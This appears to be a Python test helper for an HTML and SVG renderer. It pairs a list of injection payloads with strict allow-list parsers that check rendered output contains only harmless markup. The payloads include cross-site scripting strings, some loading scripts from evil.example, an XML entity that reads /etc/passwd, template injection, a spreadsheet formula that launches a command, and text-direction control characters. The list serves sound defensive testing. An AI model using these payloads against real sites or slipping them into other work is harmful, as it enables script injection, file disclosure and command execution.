"""Texts that are scripts, or break out of where texts stand, if they are not shown as the text
that they are; and parsers that tell what a page would make of a display."""

import base64
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

__all__ = ["PAYLOADS", "check_html", "check_svg", "words_of"]

PAYLOADS = [
    # elements that run something
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x#y"/></svg>',
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=data:text/html,alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=//evil.example><button>go</button></form>",
    "<template><script>alert(1)</script></template>",
    "<div style=position:fixed;inset:0>over all</div>",
    # ways out of an element or an attribute
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1)",
    "</text><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "</svg><img src=x onerror=alert(1)>",
    "</pre></td></table><script>alert(1)</script>",
    "</summary></details><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><x/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "<?php echo 1 ?>",
    "<",
    "<a",
    "</",
    "&",
    # texts that are escaped already, and must not come out as markup
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # addresses, templates, formulas and Markdown
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\require{html}\\class{x}{y}$$",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "url(javascript:alert(1))",
    "expression(alert(1))",
    "__proto__",
    "constructor",
    "=cmd|' -C calc'!A0",
    # characters that XML forbids, that steer terminals, or that turn the direction of text
    "a\x00<script>alert(1)</script>",
    "\x1b[2J\x1b]0;title\x07",
    "\x08\x08\x08\x7f",
    "\u202e>tpircs<\u202c",
    "\u2066\u2069\u200f",
    "\ufeff<script>alert(1)</script>",
    "\ud800\udc00\udfff",
    "\uffff\ufffe",
    "\u2028alert(1)\u2029",
    "line\nbreak\r\tand tab",
    "＜script＞alert(1)＜/script＞",
    "<" * 500,
    "x" * 5000,
]

# tag -> the attributes that it may have
_HTML = {
    "br": set(), "details": set(), "div": set(), "p": set(), "pre": set(), "strong": set(),
    "summary": set(), "table": set(), "tbody": set(), "td": set(), "th": {"scope"},
    "thead": set(), "tr": set(), "img": {"alt", "height", "src", "style", "width"},
}  # fmt: skip
_SVG = {
    "g": {"transform"},
    "path": {"class", "d", "fill"},
    "rect": {"class", "height", "rx", "width", "x", "y"},
    "style": set(),
    "svg": {"aria-label", "class", "height", "role", "viewBox", "width"},
    "text": {"class", "text-anchor", "x", "y"},
    "title": set(),
}
_IMAGE = re.compile(r"data:image/(png|svg\+xml);base64,([A-Za-z0-9+/]+=*)")
_NUMBERS = re.compile(r"[-\d. MVHhvqQCclLz]*")


class _Reader(HTMLParser):
    """Reads HTML as a page does, and refuses what is not on the list."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.words: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag, attrs):
        assert tag in _HTML, f"<{tag}>"
        assert {name for name, _ in attrs} <= _HTML[tag], attrs
        given = dict(attrs)
        assert given.get("style", "max-width: 100%") == "max-width: 100%"
        assert given.get("scope", "col") in ("col", "row")
        if tag == "img":
            source = _IMAGE.fullmatch(given.get("src", ""))
            assert source, attrs
            kind, data = source.groups()
            self.words.append(given["alt"])
            data = base64.b64decode(data, validate=True)
            if kind == "png":
                assert data.startswith(b"\x89PNG")
            else:
                self.words += check_svg(data.decode())
        if tag not in ("br", "img"):
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.words.append(data)

    def unexpected(self, data):
        raise AssertionError(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = unexpected


def check_html(text: str) -> list[str]:
    """The texts that a page would show of `text`; only harmless elements may be in it."""
    text.encode()  # a lone surrogate cannot be saved
    reader = _Reader()
    reader.feed(text)
    reader.close()
    assert reader.open == []
    return reader.words


def check_svg(text: str) -> list[str]:
    """The same for SVG, as a strict parser reads it."""
    text.encode()
    words = []
    for element in ET.fromstring(text).iter():
        space, _, tag = element.tag.rpartition("}")
        assert space == "{http://www.w3.org/2000/svg"
        assert tag in _SVG, f"<{tag}>"
        assert set(element.attrib) <= _SVG[tag], element.attrib
        numbers = [v for k, v in element.attrib.items() if k in ("d", "x", "y", "width", "height")]
        assert all(_NUMBERS.fullmatch(v) for v in numbers), numbers
        if tag == "style":
            assert "url" not in element.text
            assert "import" not in element.text
        else:
            words += [element.attrib.get("aria-label", ""), element.text or ""]
    return words


def words_of(payload: str) -> str:
    """`payload` as it is to be read: what cannot be shown is replaced."""
    return re.sub(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff\u202a-\u202e\u2066-\u2069]",
        "\ufffd",
        payload,
    )
